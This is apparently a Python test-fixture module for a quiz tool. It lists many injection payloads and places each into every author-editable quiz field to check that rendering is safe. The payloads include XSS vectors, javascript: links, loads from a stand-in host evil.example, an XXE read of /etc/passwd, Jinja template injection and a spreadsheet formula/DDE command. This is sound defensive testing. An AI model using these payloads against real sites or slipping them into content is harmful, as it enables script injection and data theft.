"""What a hostile author might write into a text, and the places where one can write."""

from __future__ import annotations

import copy
from collections.abc import Callable, Iterator
from typing import Any

RUN = "window.ran=true"
EVIL = "http://evil.example"

PAYLOADS = {
    # HTML that runs
    "script": f"<script>{RUN}</script>",
    "script-from-elsewhere": f'<script src="{EVIL}/x.js"></script>',
    "script-in-capitals": f"<ScRiPt >{RUN}</sCrIpT >",
    "script-in-script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-on-lines": f"text\n\n<script>\n{RUN}\n</script>\n\ntext",
    "closes-what-is-open": f"</p></div></section></details>'\"></textarea><script>{RUN}</script>",
    "closes-the-title": f"</title></head><body><script>{RUN}</script>",
    "leaves-an-attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "leaves-a-single-quote": f"' onfocus='{RUN}' autofocus x='",
    "image-that-fails": f'<img src=x onerror="{RUN}">',
    "image-without-spaces": f"<img/src=x/onerror={RUN}>",
    "image-from-elsewhere": f'<img src="{EVIL}/x.png" srcset="{EVIL}/y.png 2x">',
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    "svg-use": f'<svg><use href="data:image/svg+xml,<svg onload={RUN}>#x"/></svg>',
    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    "iframe": f'<iframe src="javascript:{RUN}" srcdoc="<script>parent.ran=true</script>">',
    "object": f'<object data="{EVIL}/x"></object><embed src="{EVIL}/x"><applet code=x>',
    "form": f'<form action="{EVIL}"><button formaction="javascript:{RUN}">x</button></form>',
    "input": f'<input autofocus onfocus="{RUN}"><select onfocus={RUN} autofocus>',
    "details": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "video": f'<video src=x onerror="{RUN}"><source onerror="{RUN}"></video><audio src=x>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "style": f'<style>@import "{EVIL}/x.css";*{{background:url({EVIL}/y)}}</style>',
    "style-attribute": f'<p style="background:url({EVIL}/x)">x</p>',
    "link": f'<link rel="stylesheet" href="{EVIL}/x.css"><link rel=prefetch href="{EVIL}/y">',
    "base": f'<base href="{EVIL}/">',
    "meta": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "template": f"<template><script>{RUN}</script></template><slot></slot>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "custom-element": '<self-check data-scripts="../../x"></self-check><selfcheck-ordering>',
    # HTML that is not closed, or no HTML
    "half-open-tag": f'<img src=x onerror="{RUN}" ',
    "half-open-anchor": f'<a href="javascript:{RUN}',
    "comment": f"<!-- --!><img src=x onerror={RUN}> -->",
    "half-open-comment": "<!-- text",
    "conditional-comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "processing-instruction": f"<?xml-stylesheet href='javascript:{RUN}'?><?php echo 1 ?>",
    "doctype": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    "entities-without-semicolon": f"&#0000060script&#0000062{RUN}&#x3cimg src=x onerror={RUN}&#x3e",
    "full-width": f"＜script＞{RUN}＜/script＞",
    # Markdown
    "link-javascript": f"[x](javascript:{RUN})",
    "link-javascript-title": f'[x](javascript:{RUN} "title\\" onclick={RUN}")',
    "link-javascript-angle": f"[x](<javascript:{RUN}>)",
    "link-javascript-capitals": f"[x](JaVaScRiPt:{RUN})",
    "link-javascript-entity": f"[x](&#106;avascript&colon;{RUN})",
    "link-javascript-tab": f"[x](java&Tab;script:{RUN}) [y](java\tscript:{RUN})",
    "link-javascript-newline": f"[x](java\nscript:{RUN})",
    "link-javascript-percent": f"[x](javascript%3A{RUN})",
    "link-javascript-space": f"[x]( \u00a0\u2003javascript:{RUN})",
    "link-reference": f"[x][r] [r][] [r]\n\n[r]: javascript:{RUN} 'title'\n",
    "link-reference-angle": f"[x][r]\n\n[r]: <javascript:{RUN}>\n",
    "link-data": "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
    "link-vbscript": f"[x](vbscript:{RUN})",
    "link-file": "[x](file:///etc/passwd) [y](blob:null/1) [z](view-source:x)",
    "link-protocol-relative": "[x](//evil.example/x) [y](\\\\evil.example\\x) [z](/\\evil.example)",
    "link-attribute": f'[x](http://a.example/"onmouseover="{RUN})',
    "link-attribute-list": f'[x](http://a.example){{: onclick="{RUN}" style="x" }}',
    "link-to-parent": "[x](../../../../etc/passwd.md) [y](/etc/passwd) [z](..%2f..%2fx.md)",
    "link-nested": f"[a [b](javascript:{RUN}) c](javascript:{RUN})",
    "autolink": f'<javascript:{RUN}> <data:text/html,x> <{EVIL}/?"onclick={RUN}>',
    "automail": f'<a@b.example?"onclick={RUN}> <mailto:a@b.example>',
    "image": f"![x]({EVIL}/x.png) ![y](javascript:{RUN}) [![z]({EVIL}/z.png)](javascript:{RUN})",
    "image-reference": f"![x][r]\n\n[r]: {EVIL}/x.png\n",
    "code": f"`<script>{RUN}</script>` ``<img src=x onerror={RUN}>``",
    "code-block": f"text\n\n    <script>{RUN}</script>\n",
    "code-fence": f"```\n</code></pre><script>{RUN}</script>\n```",
    "heading": f'# <img src=x onerror={RUN}> {{#x onclick="{RUN}"}}\n\nx\n===\n',
    "table": f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <script>{RUN}</script> | d |\n",
    "term": f"[[x|<img src=x onerror={RUN}>]] [[=x]] [@x]",
    "gap": "{a} {__proto__} {constructor} {{ }}",
    # for other engines
    "jinja": "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "jinja-comment": "{# x #} {%- raw %} {{ config }} {% include '/etc/passwd' %}",
    "block": "/// question | a/b\n///\n\n/// picture | ../../x.svg\n///",
    "snippet": '--8<-- "/etc/passwd"\n\n;--8<--',
    "private-use": "\ue000a\ue001 {a\ue000b} \ue000",
    "engine-marks": "-selfcheck-root- /-selfcheck-root-/x [y](/-selfcheck-root-/../../x)",
    "stash": "klzzwxh:0001 wzxhzdk:0 \\\\klzzwxh:0 amp;",
    # characters
    "bidi": "a \u202e\u2066 txt.exe \u2069\u2066 \u200f\u061c b",
    "invisible": "\u200b\u200d\ufeff\u00ad\u2060x\U000e0041",
    "marks-upon-marks": "x" + "\u0301" * 290,
    "line-separators": f"x\u2028{RUN}\u2029y\u0085z",
    "formula": '=HYPERLINK("http://evil.example";"x") @SUM(1+1)*cmd|\'/C calc\'!A0',
    "terminal": "\u009b31m x",
}

# Quizzes with `PLACE` where a payload goes, one for each place that an author can write into.
PLACE = "\ufffcPLACE\ufffc"
_TEXT = {"text": "One", "feedback": "Why."}


def _question(**keys: Any) -> dict[str, Any]:
    return {"prompt": "Which?", **{key.replace("_", "-"): value for key, value in keys.items()}}


_OPTIONS = [{**_TEXT, "correct": True}, {"text": "Two", "feedback": "Why not."}]
_QUESTIONS = [
    _question(
        type="single-choice",
        options=_OPTIONS,
        hint="Think.",
        explanation="So.",
        content_note="Mind.",
    ),
    _question(type="multiple-choice", options=_OPTIONS),
    _question(
        type="true-false", answer=True, feedback={"true": "Yes.", "false": "No."}, because=_OPTIONS
    ),
    _question(
        type="fill-in",
        text="In {a}, then.",
        blanks={
            "a": {
                "accept": ["uno", "one"],
                "feedback": "Why.",
                "misses": [{"text": "two", "feedback": "No."}],
            }
        },
        bank=["two", "one"],
    ),
    _question(
        type="matching",
        columns=["Left", "Right"],
        pairs=[
            {"left": "A", "right": "B", "feedback": "Why."},
            {"left": "C", "right": "D", "feedback": "Why."},
        ],
        distractors=["E"],
    ),
    _question(type="ordering", steps=[_TEXT, {"text": "Two", "feedback": "Why."}]),
    _question(
        type="categorizing",
        groups=["C", "A", "B"],
        items=[
            {"text": "x", "group": "A", "feedback": "Why."},
            {"text": "y", "group": "B", "feedback": "Why."},
        ],
    ),
    _question(
        type="numeric",
        answer=7,
        min=0,
        max=10,
        tolerance=1,
        zero_at=5,
        unit="%",
        feedback={"close": "Yes.", "low": "More.", "high": "Less."},
    ),
    _question(
        type="highlight",
        turns=[
            {"speaker": "A", "text": "x", "target": True, "feedback": "Why."},
            {"speaker": "B", "text": "y"},
            {"speaker": "A", "text": "z"},
        ],
    ),
    _question(
        type="practice",
        speaker="A",
        line="x",
        criteria=["One.", "Two."],
        exemplars=[
            {"text": "a", "strength": "strong", "comment": "Why."},
            {"text": "b", "strength": "weaker", "comment": "Why."},
        ],
        easier={"line": "e"},
        harder={"line": "h"},
    ),
    _question(
        type="rating",
        scale={"min-label": "no", "max-label": "yes", "points": 5},
        statements=[{"text": "a", "dimension": "d"}, {"text": "b", "dimension": "d"}],
        dimensions=[{"id": "d", "name": "D", "bands": [{"up-to": 5, "text": "x"}]}],
    ),
    _question(
        type="reflection", waive={"some-rule": "So."}, covers=["S1"], sources=["some-source"]
    ),
    _question(
        type="scenario",
        start="a",
        meters={"m": {"label": "M"}},
        nodes=[
            {
                "id": "a",
                "text": "x",
                "choices": [
                    {"text": "x", "rating": "helpful", "reaction": "r", "debrief": "d", "to": "b",
                     "effects": {"m": 1}},
                    {"text": "y", "rating": "partly", "reaction": "r", "debrief": "d", "to": "c"},
                ],
            },
            {"id": "b", "text": "x", "ending": "good"},
            {"id": "c", "text": "x", "ending": "poor"},
        ],
    ),
]  # fmt: skip
_QUIZ = {
    "title": "T",
    "description": "D",
    "introduction": "I",
    "chapter": "chapters/trust.md",
    "questions": [_question(type="reflection")],
}

Put = Callable[[str, str], dict[str, Any]]
"""Makes the quiz: from the question's id and the payload."""


def _ways(data: Any, way: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """The way to every text in a document; of lists, the first entry stands for all."""
    if isinstance(data, dict):
        for key, value in data.items():
            yield from _ways(value, (*way, key))
    elif isinstance(data, list):
        yield from _ways(data[0], (*way, 0))
    elif isinstance(data, str):
        yield way


def _put(quiz: dict[str, Any], way: tuple[str | int, ...], payload: str) -> dict[str, Any]:
    quiz = copy.deepcopy(quiz)
    holder: Any = quiz
    for step in way[:-1]:
        holder = holder[step]
    # What a gap's text must hold stays, or nothing would be shown.
    holder[way[-1]] = f"{payload} {{a}}" if way[-1] == "text" and "blanks" in holder else payload
    return quiz


def _places() -> Iterator[tuple[str, Put]]:
    for key in ("title", "description", "introduction", "chapter"):
        yield key, _at(_QUIZ, (key,))
    for question in _QUESTIONS:
        common = ("prompt",) if question is not _QUESTIONS[0] else ()
        for way in _ways(question):
            if way in (("type",), common):
                continue
            name = ".".join(str(step) for step in way if step != 0)
            quiz = {"title": "T", "questions": [question]}
            yield f"{question['type']}.{name}", _at(quiz, ("questions", 0, *way))


def _at(quiz: dict[str, Any], way: tuple[str | int, ...]) -> Put:
    def put(id: str, payload: str) -> dict[str, Any]:
        made = _put(quiz, way, payload)
        made["questions"][0] = {"id": id, **made["questions"][0]}
        return made

    return put


PLACES: dict[str, Put] = dict(_places())
